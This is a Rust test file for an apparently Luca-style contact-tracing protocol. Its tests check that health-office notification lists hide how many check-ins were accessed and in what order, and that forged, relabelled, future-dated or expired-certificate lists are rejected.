fn attack_notification_list_reveals_count_and_order() {
    let mut t = Town::new(24);
    let traces: Vec<TraceId> = (0..65).map(|_| TraceId::random(&mut t.rng)).collect();
    let office = t.cert_a.id();
    let real = |ids: &[TraceId]| -> Vec<[u8; 16]> {
        let mut h: Vec<[u8; 16]> = ids.iter().map(|id| derive::notification_hash(id, &office, 0)).collect();
        h.sort_unstable();
        h.dedup();
        h
    };

    // Lists of 1, 40 and 64 accessed check-ins look alike: 64 hashes, the same size.
    let mut sizes = Vec::new();
    for n in [1, 40, 64] {
        let list = t.office_a.notification_list(&mut t.rng, &traces[..n], &[], NOW).unwrap();
        let list = t.server.notification_list(list.as_bytes(), &t.cert_a, NOW).unwrap();
        assert_eq!(list.hashes().len(), 64);
        assert!(list.hashes().windows(2).all(|w| w[0] < w[1]), "strictly ascending");
        sizes.push(list.as_bytes().len());
    }
    assert!(sizes.windows(2).all(|w| w[0] == w[1]), "{sizes:?}");
    // The count is hidden only up to the next power of two (stated in PROTOCOL.md §8.9).
    let list = t.office_a.notification_list(&mut t.rng, &traces, &[], NOW).unwrap();
    assert_eq!(list.hashes().len(), 128);

    // The order of access is not in the list: the real hashes appear in hash
    // order whatever order the office accessed them in, and a repeated access is listed once.
    let five = &traces[..5];
    let mut reversed = five.to_vec();
    reversed.reverse();
    let repeated = [five, five, &five[..1]].concat();
    for accessed in [five.to_vec(), reversed, repeated] {
        let list = t.office_a.notification_list(&mut t.rng, &accessed, &[], NOW).unwrap();
        let listed: Vec<[u8; 16]> = list.hashes().iter().copied().filter(|h| real(five).contains(h)).collect();
        assert_eq!(listed, real(five));
        assert_eq!(list.hashes().len(), 64);
    }

    // Apps and the server accept only padded, sorted lists: an office (or its
    // software) cannot publish one that leaks count or order.
    let (keys, request) = office_keys(&mut t.rng, "Gesundheitsamt Test");
    let cert = t.anchor.certify_health_office(&request, certified()).unwrap();
    let signing = keys.signing.to_bytes();
    let in_access_order: Vec<Vec<u8>> =
        five.iter().map(|id| cbor::bstr(&derive::notification_hash(id, &request.id, 0))).collect();
    let unpadded = cbor::array(&[
        cbor::uint(1),
        cbor::bstr(request.id.as_bytes()),
        cbor::uint(NOW.0),
        cbor::array(&in_access_order),
    ]);
    let mut sorted_64: Vec<[u8; 16]> = (0..64u8).map(|i| [i; 16]).collect();
    sorted_64.swap(3, 60);
    let unsorted: Vec<Vec<u8>> = sorted_64.iter().map(|h| cbor::bstr(h)).collect();
    let unsorted =
        cbor::array(&[cbor::uint(1), cbor::bstr(request.id.as_bytes()), cbor::uint(NOW.0), cbor::array(&unsorted)]);
    let before = t.server.clone();
    for payload in [unpadded, unsorted] {
        let bytes = sign_cose(labels::COSE_NOTIFICATION_LIST, &payload, signing.as_slice());
        let err = NotificationListIn::from_slice(&bytes).unwrap_err();
        assert_eq!(err, DecodeError::InvalidField { field: "hashes" });
        assert_eq!(t.server.notification_list(&bytes, &cert, NOW).unwrap_err().kind(), "invalid_field");
    }
    assert_eq!(t.server, before);
    // (The same crafting, padded and sorted, verifies: the refusals above are the layout's.)
    let padded: Vec<Vec<u8>> = (0..64u8).map(|i| cbor::bstr(&[i; 16])).collect();
    let padded =
        cbor::array(&[cbor::uint(1), cbor::bstr(request.id.as_bytes()), cbor::uint(NOW.0), cbor::array(&padded)]);
    let bytes = sign_cose(labels::COSE_NOTIFICATION_LIST, &padded, signing.as_slice());
    assert!(server::notification_list(&bytes, &cert, NOW).is_ok());

    // Residual risk (THREAT-MODEL.md §4): level-0 hashes are keyed by the trace
    // id, so the server can recompute them for the trace ids it stores.
    let list = t.office_a.notification_list(&mut t.rng, &traces[..40], &[], NOW).unwrap();
    assert_eq!(list.check(&traces).len(), 40);

    // A guest matches the list on the device.
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let list = t.office_a.notification_list(&mut t.rng, &[code.trace_id], &[], NOW).unwrap();
    let found = t.alice.check_notifications(&list);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].notice, luca_client::Notice::DataAccessed);
}

#[test]
fn attack_forged_notification_list() {
    let mut t = Town::new(25);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let before = t.server.clone();
    let warning = [(code.trace_id, 3)];

    // Someone without a certified key "warns" Alice in office A's name.
    let rogue = HealthOfficeMasterKeys::generate(&mut t.rng);
    let forged = NotificationList::build(&mut t.rng, &rogue.signing, t.cert_a.id(), &warning, NOW).unwrap();
    let err = NotificationListIn::from_slice(forged.as_bytes()).unwrap().verify(&t.cert_a, NOW).unwrap_err();
    assert_eq!(err, VerifyError::BadSignature);
    let err = t.server.notification_list(forged.as_bytes(), &t.cert_a, NOW).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::BadSignature));
    assert_eq!(err.kind(), "bad_signature");

    // An office certified by another trust anchor, in its own name.
    let rogue_anchor = TrustAnchor::generate(&mut t.rng);
    let (office_c, cert_c) = certified_office(&mut t.rng, &rogue_anchor, "Gesundheitsamt Nirgendwo");
    let list_c = office_c.notification_list(&mut t.rng, &[], &warning, NOW).unwrap();
    let err = HealthOfficeCertificateIn::from_slice(cert_c.as_bytes()).unwrap().verify(&t.anchor.public_key(), NOW);
    assert_eq!(err.unwrap_err(), VerifyError::BadSignature, "no app holds C's certificate as verified");
    assert_eq!(t.server.notification_list(list_c.as_bytes(), &t.cert_a, NOW).unwrap_err().kind(), "wrong_issuer");

    // Office B's genuine list relabelled as office A's.
    let list_b = t.office_b.notification_list(&mut t.rng, &[], &warning, NOW).unwrap();
    let relabelled = splice(list_b.as_bytes(), t.cert_b.id().as_bytes(), t.cert_a.id().as_bytes());
    assert_eq!(t.server.notification_list(&relabelled, &t.cert_a, NOW).unwrap_err().kind(), "bad_signature");
    // A list dated an hour ahead, and one from an office whose certificate has expired.
    let ahead = t.office_b.notification_list(&mut t.rng, &[], &warning, NOW.plus_secs(HOUR)).unwrap();
    let err = t.server.notification_list(ahead.as_bytes(), &t.cert_b, NOW).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::NotYetValid));
    let (keys_d, request_d) = office_keys(&mut t.rng, "Gesundheitsamt Gestern");
    let expired = Validity { not_before: NOW.minus_secs(60 * DAY), not_after: NOW.minus_secs(DAY) };
    let cert_d = t.anchor.certify_health_office(&request_d, expired).unwrap();
    let list_d = NotificationList::build(&mut t.rng, &keys_d.signing, request_d.id, &warning, NOW).unwrap();
    assert_eq!(t.server.notification_list(list_d.as_bytes(), &cert_d, NOW).unwrap_err().kind(), "expired");
    assert_eq!(t.server, before, "no forged list was published");

    // Alice's app matches only verified lists: office A's genuine list
    // without her, then with a warning for her.
    let someone = TraceId::random(&mut t.rng);
    let genuine = t.office_a.notification_list(&mut t.rng, &[], &[(someone, 1)], NOW).unwrap();
    let genuine = t.server.notification_list(genuine.as_bytes(), &t.cert_a, NOW).unwrap();
    assert!(t.alice.check_notifications(&genuine).is_empty());
    let warned = t.office_a.notification_list(&mut t.rng, &[], &warning, NOW).unwrap();
    let warned = t.server.notification_list(warned.as_bytes(), &t.cert_a, NOW).unwrap();
    let found = t.alice.check_notifications(&warned);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].notice, luca_client::Notice::Warning { level: 3 });
}
